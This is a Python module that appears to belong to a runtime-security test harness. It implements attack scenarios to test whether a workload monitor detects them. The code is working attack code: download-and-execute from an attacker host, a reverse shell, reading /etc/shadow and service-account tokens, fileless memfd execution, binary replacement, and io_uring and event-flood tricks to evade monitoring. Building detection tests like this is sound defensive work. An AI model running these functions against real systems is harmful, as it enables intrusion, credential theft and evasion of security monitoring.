"""The attacks of the scenarios, as they run inside a workload.

Each attack is a function of one context dictionary (paths and addresses the harness chose)
that performs the attack's actions from the calling process and returns a short note. The
harness runs it either inside the web application's own process, through the application's
debug hook (runpy with ARGS = [name, context as JSON]; the result goes back in RESULT), or in
a process it moved into a server's cgroup. Programs the attacks start are waited for with a
timeout; nothing is left running.

Nothing here cleans up: the harness removes what an attack left behind, from outside the
watched workload, so that cleaning does not count as the workload's behaviour.
"""
import json
import os
import shutil
import signal
import socket
import subprocess
import time
import urllib.request

TIMEOUT = 15
SHELL = "/bin/sh"


def _run(argv, **kw):
    r = subprocess.run(argv, capture_output=True, timeout=TIMEOUT, **kw)
    return f"{os.path.basename(argv[0])} exited {r.returncode}"


def _drop_dir(ctx):
    os.makedirs(ctx["drop_dir"], exist_ok=True)
    return ctx["drop_dir"]


def download_exec(ctx):
    """Fetches a program over HTTP, writes it to /tmp and runs it."""
    url = f"http://{ctx['attacker_host']}:{ctx['attacker_http_port']}/payload"
    with urllib.request.urlopen(url, timeout=TIMEOUT) as r:
        payload = r.read()
    path = os.path.join(_drop_dir(ctx), "update-agent")
    with open(path, "wb") as f:
        f.write(payload)
    os.chmod(path, 0o755)
    return _run([path])


def copy_renamed(ctx):
    """Runs a copy of a binary the workload is allowed to run, under another name."""
    path = os.path.join(_drop_dir(ctx), "kworker")
    shutil.copyfile(ctx["allowed"], path)
    os.chmod(path, 0o755)
    return _run([path, *ctx["allowed_args"]])


def symlink_alias(ctx):
    """Runs a shell through a symbolic link named like the workload's own binary."""
    link = os.path.join(_drop_dir(ctx), os.path.basename(ctx["allowed"]))
    os.symlink(SHELL, link)
    return _run([link, "-c", "id"])


def replaced_in_place(ctx):
    """Replaces a binary the workload runs with another file at the same path, then has it
    run: by the workload itself (nginx re-executes its binary on SIGUSR2) or directly."""
    target = ctx["replace_target"]
    tmp = target + ".new"
    shutil.copyfile(ctx["replace_payload"], tmp)
    os.chmod(tmp, 0o755)
    os.replace(tmp, target)
    trigger = ctx.get("replace_trigger")
    if trigger:
        os.kill(int(trigger), signal.SIGUSR2)
        time.sleep(1.0)  # the server forks and executes the new file
        return f"sent SIGUSR2 to {trigger}"
    return _run([target, *ctx["allowed_args"]])


def dynamic_loader(ctx):
    """Starts a program through the dynamic loader instead of executing it."""
    return _run([ctx["loader"], ctx["allowed"], *ctx["allowed_args"]])


def writable_dir_script(ctx):
    """Writes a script to /tmp and has an interpreter run it."""
    script = os.path.join(_drop_dir(ctx), "stage.py")
    with open(script, "w") as f:
        f.write("import os\nprint(os.getuid())\n")
    return _run([ctx["interpreter"], script])


def memfd_exec(ctx):
    """Runs a program that exists only in memory (memfd_create, then exec of the fd)."""
    fd = os.memfd_create("rtg-payload", 0)
    try:
        with open(ctx["payload"], "rb") as src:
            os.write(fd, src.read())
        return _run([f"/proc/self/fd/{fd}"], pass_fds=[fd])
    finally:
        os.close(fd)


def reverse_shell(ctx):
    """Connects out to the attacker and hands a shell the connection."""
    s = socket.create_connection((ctx["attacker_host"], ctx["attacker_shell_port"]),
                                 timeout=TIMEOUT)
    try:
        r = subprocess.run([SHELL], stdin=s, stdout=s, stderr=s, timeout=TIMEOUT)
    finally:
        s.close()
    return f"shell exited {r.returncode}"


def server_shell(ctx):
    """Starts a shell from the calling process (the server itself, through the app's hook)."""
    return _run([SHELL, "-c", "id; uname -a"])


def read_file(path):
    with open(path, "rb") as f:
        return f"read {len(f.read())} bytes of {path}"


def read_shadow(ctx):
    return read_file("/etc/shadow")


def read_sa_token(ctx):
    return read_file(ctx["token_path"])


def write_file(path):
    with open(path, "w") as f:
        f.write("# rtguard scenario\n")
    return f"wrote {path}"


def write_bin_dir(ctx):
    return write_file(ctx["bin_write_path"])


def write_etc(ctx):
    return write_file(ctx["etc_write_path"])


def io_uring_open(ctx):
    """Opens a secret through io_uring, where the open(2) hooks do not see it."""
    return _run([ctx["tool"], "uring-open", "/etc/shadow"])


def flood(ctx):
    """Floods the monitor with distinct events, then reads a secret at once."""
    return _run([ctx["tool"], "flood", str(ctx["flood_count"]), "/etc/shadow"])


ATTACKS = {f.__name__: f for f in (
    download_exec, copy_renamed, symlink_alias, replaced_in_place, dynamic_loader,
    writable_dir_script, memfd_exec, reverse_shell, server_shell, read_shadow, read_sa_token,
    write_bin_dir, write_etc, io_uring_open, flood)}


def run(name, ctx):
    return ATTACKS[name](ctx)


if __name__ == "__rce__":
    RESULT = run(ARGS[0], json.loads(ARGS[1]))  # noqa: F821 (ARGS comes from the app's hook)
